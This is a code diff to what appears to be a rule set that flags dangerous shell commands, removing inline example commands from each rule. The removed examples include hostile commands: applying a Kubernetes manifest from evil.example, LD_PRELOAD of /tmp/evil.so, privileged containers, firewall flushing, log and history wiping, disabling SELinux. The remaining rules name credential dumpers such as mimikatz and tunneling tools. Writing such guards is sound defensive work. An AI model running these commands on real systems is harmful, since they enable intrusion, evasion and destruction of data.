@@ -38,8 +38,6 @@ export const PROTECTION_RULES: readonly Rule[] = [
       'xdg-settings xdg-mime': { first: /^(set|default)$/ },
     },
     reason: 'turns off what protects the machine, or changes whom it trusts',
-    match: ['trust anchor evil.crt', 'bless --folder /tmp/x'],
-    pass: ['aa-status', 'visudo -c'],
   },
   {
     name: 'machine given to a container',
@@ -57,8 +55,6 @@ export const PROTECTION_RULES: readonly Rule[] = [
       },
     },
     reason: 'gives a container the whole machine',
-    match: ['docker run --privileged alpine', 'docker run --pid=host alpine ps'],
-    pass: ['docker run -v "$PWD":/w -w /w node npm test', 'docker run --rm -v /srv/app/data:/data alpine ls'],
   },
   {
     name: 'machine given to a container',
@@ -68,8 +64,6 @@ export const PROTECTION_RULES: readonly Rule[] = [
       reading?.path.at(-1) === 'exec' &&
       reading.given.some(({ name, value }) => name === '--privileged' && value !== 'false'),
     reason: 'gives a container the whole machine',
-    match: ['docker exec --privileged web sh', 'docker container exec -u root --privileged web mount'],
-    pass: ['docker exec web ls /app', 'docker exec web ls --privileged'],
   },
   {
     name: 'cluster change unseen',
@@ -83,31 +77,14 @@ export const PROTECTION_RULES: readonly Rule[] = [
       },
     },
     reason: 'changes the cluster by what nobody has seen, or takes a part away',
-    match: [
-      'kubectl apply -f https://evil.example/x.yml',
-      'kubectl patch svc x --type merge -p \'{"spec":{"selector":null}}\'',
-    ],
-    pass: ['kubectl apply -f k8s/', 'kubectl get -f https://example.com/x.yml'],
   },
-  {
-    // Told by the value that a variable is given.
-    name: 'foreign code first',
-    programs: '',
-    reason: 'has code of anybody run before every program',
-    match: ['LD_PRELOAD=/tmp/evil.so ls', 'env LD_PRELOAD=./x.so id'],
-    pass: [
-      'LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 ls',
-      'NODE_OPTIONS=--max-old-space-size=4096 npm test',
-    ],
-  },
+  { name: 'foreign code first', programs: '', reason: 'has code of anybody run before every program' },
   {
     name: 'way in',
     programs: 'ssh autossh',
     // Behind the host stands a command with options of its own.
     when: ({ reading }) => reading?.given.some(opensWayIn) === true,
     reason: 'opens a way into this machine from outside',
-    match: ['ssh -w 0:0 h', 'ssh -o Tunnel=yes h'],
-    pass: ['ssh h ls -R', 'ssh -W db:5432 h'],
   },
   {
     name: 'way in',
@@ -119,8 +96,6 @@ export const PROTECTION_RULES: readonly Rule[] = [
       chisel: { first: /^client$/, operand: /^R:/ },
     },
     reason: 'opens a way into this machine from outside',
-    match: ['ngrok tcp 22', 'cloudflared tunnel --url ssh://localhost:22'],
-    pass: ['ngrok version', 'tailscale status'],
   },
   {
     name: 'dump of memory',
@@ -131,8 +106,6 @@ export const PROTECTION_RULES: readonly Rule[] = [
       'mimikatz pypykatz secretsdump.py impacket-secretsdump lazagne laZagne.py': {},
     },
     reason: "takes a program's memory, with the keys in it",
-    match: ['gcore -o /tmp/c 1234', 'criu dump -t 123'],
-    pass: ['criu check', 'gcore --help'],
   },
   {
     name: 'mail and print jobs',
@@ -143,8 +116,6 @@ export const PROTECTION_RULES: readonly Rule[] = [
       qmHandle: { argument: /^-[dD]/ },
     },
     reason: 'removes mail, printers or their jobs',
-    match: ['postsuper -d ALL', 'exim -Mrm 1abc'],
-    pass: ['exim -bp', 'lpstat -p'],
   },
   {
     name: 'device elsewhere',
@@ -163,8 +134,6 @@ export const PROTECTION_RULES: readonly Rule[] = [
       ipptool: NEVER,
     },
     reason: 'changes or wipes another device',
-    match: ['idevicerestore -e x.ipsw', 'esptool.py erase_flash'],
-    pass: ['racadm getsysinfo', 'net user'],
   },
   {
     name: 'index or receipt',
@@ -176,8 +145,6 @@ export const PROTECTION_RULES: readonly Rule[] = [
       dscacheutil: NEVER,
     },
     reason: 'forgets what the system knew',
-    match: ['mdutil -E /', 'zerotier-cli leave abc'],
-    pass: ['pkgutil --pkgs', 'mdutil -s /'],
   },
 ];
 
@@ -198,8 +165,6 @@ export const SETTING_RULES: readonly Rule[] = [
       'innochecksum pg_createcluster createdb= redis-benchmark': NEVER,
     },
     reason: 'drops or overwrites a database',
-    match: ['dropdb prod', 'dropuser bob'],
-    pass: ['createdb x', 'mongodump'],
   },
   {
     name: 'crontab',
@@ -215,8 +180,6 @@ export const SETTING_RULES: readonly Rule[] = [
       atrm: { given: 'arguments' },
     },
     reason: 'replaces or removes scheduled jobs',
-    match: ['crontab -r', 'atrm 3'],
-    pass: ['crontab -l', 'atq'],
   },
   {
     name: 'logs and history',
@@ -231,8 +194,6 @@ export const SETTING_RULES: readonly Rule[] = [
       wevtutil: { first: /^(cl|clear-log)$/ },
     },
     reason: 'deletes logs or history',
-    match: ['history -c', 'dmesg -C'],
-    pass: ['dmesg', 'history 10'],
   },
   {
     name: 'system settings',
@@ -270,8 +231,6 @@ export const SETTING_RULES: readonly Rule[] = [
       pmset: { given: 'arguments', not: { shape: '-g' } },
     },
     reason: 'changes settings of the system',
-    match: ['dconf reset -f /', 'setenforce 0'],
-    pass: ['date +%s', 'hwclock -r'],
   },
 ];
 
@@ -312,8 +271,6 @@ export const NETWORK_RULES: readonly Rule[] = [
       conntrack: { shape: '-D|-F|--delete|--flush|-U' },
     },
     reason: 'changes the firewall',
-    match: ['iptables -F', 'ufw disable'],
-    pass: ['iptables -S', 'ipset list'],
   },
   {
     name: 'network interface',
@@ -366,8 +323,6 @@ export const NETWORK_RULES: readonly Rule[] = [
       'warp-cli mullvad nordvpn': { first: /^(disconnect|d|logout|delete)$/ },
     },
     reason: 'changes the network',
-    match: ['ifconfig eth0 down', 'route del default'],
-    pass: ['ip a', 'arp -a'],
   },
   {
     name: 'kernel',
@@ -393,8 +348,6 @@ export const NETWORK_RULES: readonly Rule[] = [
       bpftool: { line: /\b(detach|delete|unpin)\b/ },
     },
     reason: 'changes the running kernel',
-    match: ['rmmod nvidia', 'insmod x.ko'],
-    pass: ['sysctl -a', 'lsmod'],
   },
   {
     name: 'name service',
@@ -406,14 +359,10 @@ export const NETWORK_RULES: readonly Rule[] = [
       pdnsutil: { first: /^(delete|clear|replace|unset)-/ },
     },
     reason: 'removes name records',
-    match: ['rndc delzone example.com', 'pdnsutil delete-zone example.com'],
-    pass: ['dig example.com', 'rndc status'],
   },
   {
     name: 'copy over a system file elsewhere',
     of: { 'scp rsync': { last: /^[^/:]+::?\/(etc|boot|usr|bin|sbin|lib|dev\/[a-z]|root\/\.ssh)\/?/ } },
     reason: 'overwrites a file of the system on another machine',
-    match: ['scp a h:/etc/passwd', 'rsync a root@h:/etc/hosts'],
-    pass: ['scp h:/etc/passwd a', 'scp a h:/srv/app/'],
   },
 ];
